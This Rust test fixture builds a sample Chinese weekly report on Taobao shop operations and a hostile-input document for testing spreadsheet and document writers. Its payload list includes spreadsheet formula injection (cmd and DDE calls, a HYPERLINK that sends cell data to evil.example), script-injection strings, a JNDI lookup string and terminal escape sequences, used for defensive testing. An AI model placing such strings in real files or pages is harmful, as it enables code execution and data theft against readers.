//! Documents for tests of the writers: one like a report, and one in which every text is hostile.

#![allow(dead_code)] // each suite uses its part

use calamine::{Data, Range, Reader, Xlsx, open_workbook_from_rs};
use chrono::{NaiveDate, NaiveTime, TimeDelta};
use ops::language::Lang;
use ops::render::sheet::{
    Body, Cell, Chart, ChartKind, Column, Document, Fact, Grid, Group, Row, Section, Series, Table, TableKind, Tone,
};
use ops::status::{Status, Timing};
use rust_decimal::Decimal;
use std::io::Cursor;

const ON_TIME: Status = Status::Done(Timing::OnTime);
const LATE: Status = Status::Done(Timing::Late);

/// Returns a Sunday in November, the last day of the sample's week.
pub fn day() -> NaiveDate {
    NaiveDate::from_ymd_opt(2026, 11, 29).expect("a date")
}

/// Returns the document as a workbook, opened with an independent reader.
pub fn workbook(document: &Document) -> Xlsx<Cursor<Vec<u8>>> {
    let bytes = ops::render::sheet::xlsx::write(document).expect("a workbook");
    open_workbook_from_rs(Cursor::new(bytes)).expect("a workbook")
}

/// Returns the cells of its last worksheet.
pub fn last_worksheet(document: &Document) -> Range<Data> {
    let mut workbook = workbook(document);
    let last = workbook.sheet_names().last().cloned().expect("a worksheet");
    workbook.worksheet_range(&last).expect("a worksheet")
}

fn ratio(of: u64, from: u64) -> Cell {
    Cell::Ratio { of, from }
}

fn yuan(cents: i64) -> Cell {
    Cell::Decimal { value: Decimal::new(cents, 2), unit: Some("元".into()) }
}

/// Returns a document with every kind of section and cell.
pub fn sample() -> Document {
    Document {
        lang: Lang::Zh,
        title: "淘宝运营每日工作 2026-W48 周报".into(),
        restriction: None,
        incomplete: None,
        overview: None,
        facts: vec![
            Fact::new("店铺", "旗舰店"),
            Fact::new("完成", ratio(236, 252)),
            Fact::new("按时", ratio(221, 252)),
            Fact::new("漏做", Cell::Count(9)),
        ],
        lead: vec!["距双12还有 13 天".into()],
        sections: vec![
            Section::new("按板块", Body::Table(by_area())),
            Section::plain(Body::Chart(by_day())),
            Section::plain(Body::Chart(shares())),
            Section::plain(Body::Chart(spend())),
            Section::new("每天", Body::Grid(grid())),
            Section::new("明细", Body::Table(list())),
            Section::new("说明", Body::Text(vec!["双12 临近，直通车花费上升。".into()])),
        ],
        foot: vec!["完成 =（提前 + 完成 + 超时完成）÷ 应做".into(), "截至 2026-11-29 20:30，Asia/Shanghai".into()],
        day: day(),
    }
}

fn by_area() -> Table {
    let columns = vec![
        Column::text("板块", 24).name(),
        Column::number("应做"),
        Column::number("完成"),
        Column::number("按时率"),
        Column::number("花费"),
        Column::number("平均迟"),
    ];
    let row = |name: &str, required: u64, done: u64, spend: Cell, late: Cell| {
        Row::new(vec![name.into(), Cell::Count(required), Cell::Count(done), ratio(done, required), spend, late])
    };
    let mut rows = vec![
        row("日常检查", 56, 55, Cell::Empty, Cell::Length(TimeDelta::minutes(12))),
        row("数据与统计分析", 49, 42, Cell::Empty, Cell::Length(TimeDelta::minutes(65))),
        row("直通车推广", 28, 28, yuan(228_650), Cell::Missing),
        row("钻展推广", 0, 0, yuan(-1_250), Cell::Missing),
    ];
    let sum = vec!["合计".into(), Cell::Count(133), Cell::Count(125), ratio(125, 133), yuan(227_400), Cell::Empty];
    rows.push(Row::total(sum));
    Table::new(TableKind::Summary, columns, rows)
}

const DAYS: [&str; 7] =
    ["11-23 周一", "11-24 周二", "11-25 周三", "11-26 周四", "11-27 周五", "11-28 周六", "11-29 周日"];

fn by_day() -> Chart {
    let counts = |name: &str, tone: Tone, counts: [u64; 7]| Series {
        name: name.into(),
        tone,
        values: counts.map(Cell::Count).to_vec(),
    };
    Chart {
        kind: ChartKind::StackedBars,
        target: None,
        title: "每天的检查".into(),
        categories: DAYS.map(str::to_owned).to_vec(),
        series: vec![
            counts("按时", Tone::Good, [33, 31, 34, 36, 30, 28, 29]),
            counts("超时完成", Tone::Late, [2, 3, 1, 0, 3, 4, 2]),
            counts("漏做", Tone::Bad, [1, 2, 1, 0, 3, 4, 5]),
        ],
    }
}

fn shares() -> Chart {
    Chart {
        kind: ChartKind::Bars,
        target: None,
        title: "各板块完成率".into(),
        categories: ["日常检查", "数据与统计分析", "直通车推广", "钻展推广"].map(str::to_owned).to_vec(),
        series: vec![Series {
            name: "完成率".into(),
            tone: Tone::Plain,
            values: vec![ratio(55, 56), ratio(42, 49), ratio(28, 28), ratio(0, 0)],
        }],
    }
}

fn spend() -> Chart {
    let line = |name: &str, tone: Tone, cents: [Option<i64>; 7]| Series {
        name: name.into(),
        tone,
        values: cents.map(|cents| cents.map_or(Cell::Missing, yuan)).to_vec(),
    };
    Chart {
        kind: ChartKind::Line,
        target: None,
        title: "直通车花费与成交".into(),
        categories: DAYS.map(str::to_owned).to_vec(),
        series: vec![
            line(
                "花费",
                Tone::Warn,
                [Some(32_000), Some(30_050), Some(41_000), None, Some(35_600), Some(52_000), Some(38_000)],
            ),
            line(
                "成交",
                Tone::Good,
                [Some(96_000), Some(88_000), Some(123_000), None, Some(90_000), Some(140_000), Some(101_000)],
            ),
        ],
    }
}

fn grid() -> Grid {
    let part = |of: u64, from: u64, tone: Tone| Cell::Part { of, from, tone };
    let row = |name: &str, days: [Cell; 7], all: Cell| Row::new([vec![name.into()], days.to_vec(), vec![all]].concat());
    let signs = [ON_TIME, ON_TIME, LATE, ON_TIME, Status::Missed, Status::Skipped, Status::Excused].map(Cell::Sign);
    let parts = [
        part(23, 23, Tone::Good),
        part(20, 23, Tone::Warn),
        part(0, 23, Tone::Bad),
        part(23, 23, Tone::Late),
        Cell::Empty,
        part(22, 23, Tone::Warn),
        Cell::Empty,
    ];
    let sums = [(24, 24), (21, 24), (1, 24), (24, 24), (0, 1), (22, 24), (0, 0)];
    let sums = sums.map(|(of, from)| if from == 0 { Cell::Empty } else { ratio(of, from) });
    let group = |heading: &str, row: Row| Group { heading: Some(heading.into()), lead: None, rows: vec![row] };
    let total = Row { strong: true, ..row("合计", sums, ratio(92, 121)) };
    let mut columns = vec![Column::text("任务", 40).name()];
    columns.extend(DAYS.map(|day| Column::day(&day[..5])));
    columns.push(Column::number("完成率"));
    Grid {
        table: Table {
            kind: TableKind::Summary,
            columns,
            grouped_by: Some("板块".into()),
            groups: vec![
                group("日常检查", row("公司晨会 + 打扫卫生", signs, ratio(4, 6))),
                group("淘宝客跟进", row("封锁对手淘宝客，看实时销量、淘客联盟、花生日记", parts, ratio(88, 115))),
                Group { rows: vec![total], ..Group::default() },
            ],
        },
        names: 1,
        days: 7,
        meaning: "✓ 完成、超 超时完成、✗ 漏做".into(),
    }
}

fn list() -> Table {
    let columns = vec![
        Column::text("日期", 10).name(),
        Column::text("时间", 13).name(),
        Column::text("任务", 40).name(),
        Column::text("状态", 10),
        Column::text("完成", 16),
        Column::text("备注", 30),
        Column::data("板块", 16),
    ];
    let date = |of: u32| Cell::Date(NaiveDate::from_ymd_opt(2026, 11, of).expect("a date"));
    let time = |hour: u32, minute: u32| NaiveTime::from_hms_opt(hour, minute, 0).expect("a time");
    let row = |cells: Vec<Cell>, status: Status| Row { cells, status: Some(status), strong: false };
    let rows = vec![
        row(
            vec![
                date(23),
                "08:20-08:30".into(),
                "公司晨会 + 打扫卫生".into(),
                Cell::Status(ON_TIME),
                Cell::Time(time(8, 25)),
                Cell::Empty,
                "日常检查".into(),
            ],
            ON_TIME,
        ),
        row(
            vec![
                date(24),
                "19:00-22:00".into(),
                "分析结果及应对方法".into(),
                Cell::Status(LATE),
                Cell::Moment(day().and_time(time(0, 30))),
                "花费偏高\n明天再看".into(),
                "直通车推广".into(),
            ],
            LATE,
        ),
        row(
            vec![
                date(25),
                "08:30-09:00".into(),
                "DSR".into(),
                Cell::Status(Status::Missed),
                Cell::Missing,
                Cell::Empty,
                "日常检查".into(),
            ],
            Status::Missed,
        ),
    ];
    Table::new(TableKind::List, columns, rows)
}

/// Returns texts that must remain texts in every program.
pub fn payloads() -> Vec<String> {
    let fixed = [
        "=cmd|' /C calc'!A0",
        "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")",
        "=1+1",
        "+1+1",
        "-1+1",
        "@SUM(1+1)",
        "\t=1+1",
        "\r=1+1",
        "\n=1+1",
        "  =1+1",
        "x;=1+1",
        "＝1+1",
        "{=1+1}",
        "=DDE(\"cmd\";\"/C calc\";\"x\")",
        "<script>alert(1)</script>",
        "</title><script>alert(2)</script>",
        "</style><script>alert(3)</script>",
        "</svg><script>alert(4)</script>",
        "<img src=x onerror=alert(5)>",
        "\" onmouseover=\"alert(6)",
        "' onfocus='alert(7)' autofocus='",
        "<!-- -->",
        "--><script>alert(8)</script>",
        "<![CDATA[x]]>",
        "&lt;b&gt; &amp; &#60;i&#62; R&D",
        "javascript:alert(9)",
        "[click](javascript:alert(10))",
        "![x](http://evil.example/x.png)",
        "<http://evil.example>",
        "https://evil.example www.evil.example me@evil.example",
        "a | b || c",
        "`code` ```\nfence",
        "](http://evil.example)",
        "[x]: http://evil.example",
        "**bold** _it_ ~~gone~~ $x$",
        "# heading",
        "1. one",
        "- item\n- item",
        "> quote",
        "---",
        "===",
        "\\",
        "\\|",
        "\u{1b}[31mred\u{1b}[0m\u{7}",
        "\u{1b}]0;title\u{7}",
        "\u{9b}2J",
        "\u{202e}gnp.exe",
        "\u{2066}x\u{2069}",
        "a\0b",
        "\u{feff}bom",
        "\u{fffe}\u{ffff}",
        "_x0041_ _x000D_",
        "quote \"inner\" , comma",
        "line one\nline two\r\nline three",
        "  leading and trailing  ",
        "\u{1f600}\u{1f468}\u{200d}\u{1f469}\u{200d}\u{1f467} \u{20bb7}",
        "e\u{301}\u{302}\u{303}",
        "'quoted",
        "&P &D &[File]",
        "%s %n {0} ${jndi:ldap://evil.example}",
        "3/4",
        "1e5",
        "0012",
        "",
    ];
    let mut all: Vec<String> = fixed.map(str::to_owned).to_vec();
    all.push("很长".repeat(500));
    all.push("x".repeat(1000));
    all
}

/// Returns texts longer than a spreadsheet's cell.
pub fn too_long() -> Vec<String> {
    vec!["很长".repeat(20_000), "x".repeat(40_000), "\u{1f600}".repeat(20_000)]
}

/// Returns a document in which every text is the payload.
pub fn hostile(payload: &str) -> Document {
    let text = || payload.to_owned();
    let columns =
        vec![Column::text(text(), 20).name(), Column::number(text()), Column::boxes(text()), Column::data(text(), 20)];
    let cells = || {
        let number = Cell::Decimal { value: Decimal::new(-15, 1), unit: Some(text()) };
        vec![Cell::Text(text()), number, Cell::Tick(Status::Due), Cell::Text(text())]
    };
    let table = |kind: TableKind| Table {
        kind,
        columns: columns.clone(),
        grouped_by: Some(text()),
        groups: vec![Group {
            heading: Some(text()),
            lead: Some(text()),
            rows: vec![Row::new(cells()), Row { status: Some(Status::Missed), strong: true, ..Row::new(cells()) }],
        }],
    };
    let chart = |kind: ChartKind| Chart {
        kind,
        target: Some(Decimal::from(95)),
        title: text(),
        categories: vec![text(), text()],
        series: [Tone::Good, Tone::Bad]
            .map(|tone| Series { name: text(), tone, values: vec![Cell::Count(3), Cell::Text(text())] })
            .to_vec(),
    };
    let section = |body: Body| Section::new(text(), body);
    Document {
        lang: Lang::Zh,
        title: text(),
        restriction: Some(text()),
        incomplete: Some(text()),
        overview: None,
        facts: vec![Fact::new(text(), text())],
        lead: vec![text()],
        sections: vec![
            section(Body::Table(table(TableKind::List))),
            section(Body::Table(table(TableKind::Summary))),
            section(Body::Grid(Grid { table: table(TableKind::Summary), names: 1, days: 1, meaning: text() })),
            section(Body::Chart(chart(ChartKind::Bars))),
            section(Body::Chart(chart(ChartKind::StackedBars))),
            section(Body::Chart(chart(ChartKind::Line))),
            section(Body::Text(vec![text()])),
        ],
        foot: vec![text()],
        day: day(),
    }
}
